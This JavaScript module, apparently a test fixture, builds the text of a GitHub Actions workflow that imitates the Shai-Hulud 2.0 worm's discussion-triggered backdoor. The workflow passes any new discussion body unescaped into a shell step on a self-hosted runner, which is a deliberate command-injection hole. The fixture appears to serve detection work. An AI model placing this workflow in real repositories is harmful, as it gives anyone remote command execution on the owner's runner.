/* eslint-disable */
// Inert imitation of Shai-Hulud 2.0's discussion.yaml (incidents.md section 4): a workflow that
// runs the body of any new discussion on the self-hosted runner the worm registered. Only the text
// is built here.
const lines = [
  'name: Discussion Create',
  'on:',
  '  discussion:',
  'jobs:',
  '  process:',
  '    env:',
  '      RUNNER_TRACKING_ID: 0',
  '    runs-on: self-hosted',
  '    steps:',
  '      - uses: actions/checkout@v5',
  '      - name: Handle Discussion',
  '        run: echo ${{ github.event.discussion.body }}',
];
module.exports = lines.join('\n');
